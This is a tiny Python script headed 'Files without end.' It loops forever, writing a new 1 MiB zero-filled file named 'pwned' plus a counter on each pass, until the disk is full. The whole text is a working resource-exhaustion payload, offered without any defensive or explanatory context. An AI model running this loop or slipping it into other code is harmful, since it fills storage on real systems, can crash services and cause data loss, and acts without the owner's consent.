# Files without end.
n = 0
while True:
    with open(f"pwned{n}", "wb") as file: file.write(bytes(1 << 20))
    n += 1
